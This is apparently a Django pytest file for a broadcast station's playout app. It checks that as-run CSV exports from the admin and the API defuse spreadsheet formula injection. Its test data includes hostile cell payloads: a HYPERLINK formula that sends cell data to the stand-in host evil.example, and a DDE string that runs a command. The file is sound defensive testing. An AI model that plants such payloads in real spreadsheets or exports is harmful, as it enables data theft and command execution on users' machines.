"""Spreadsheet formula injection (issue 14): as-run CSV cells a spreadsheet would run as formulas are made text."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from playout.exports import AS_RUN_COLUMNS
from playout.models import AsRunEntry
from station.tests import factories

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
PLAIN = ["News at nine", "1 + 1 = 2", "a=b", "'quoted already"]


@pytest.fixture
def hostile_rows(studio_a):
    """As-run rows whose titles, channel slug and node name start like formulas, and a plain one."""
    channel = factories.ChannelFactory(studio=studio_a, slug="-channel")
    node = factories.NodeFactory(name="=node")
    asset = factories.MediaAssetFactory(studio=studio_a, checksum="ab" * 32)
    start = timezone.now() - timedelta(hours=2)
    for n, title in enumerate([*FORMULAS, *PLAIN]):
        began = start + timedelta(minutes=n)
        AsRunEntry.objects.create(channel=channel, node=node, asset=asset, title=title, result="played",
                                  started_at=began, ended_at=began + timedelta(seconds=30), duration_seconds=30.0)
    return channel


def assert_no_cell_runs_as_a_formula(text: str):
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == AS_RUN_COLUMNS
    assert [row["title"] for row in rows] == [f"'{title}" for title in FORMULAS] + PLAIN
    for row in rows:
        assert (row["channel"], row["node"], row["result"]) == ("'-channel", "'=node", "played")
        assert row["duration_seconds"] == "30.000"  # numbers stay numbers
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values() if cell)


def test_the_admin_export_neutralises_formulas(client, superuser, hostile_rows):
    client.force_login(superuser)
    response = client.post("/admin/playout/asrunentry/", {
        "action": "export_csv", "_selected_action": list(AsRunEntry.objects.values_list("pk", flat=True))})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert_no_cell_runs_as_a_formula(response.content.decode())


def test_the_api_csv_neutralises_formulas(api, operator_a, hostile_rows):
    response = api(operator_a).get("/api/v1/as-run/", {"format": "csv", "channel": hostile_rows.pk})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert_no_cell_runs_as_a_formula(response.content.decode())
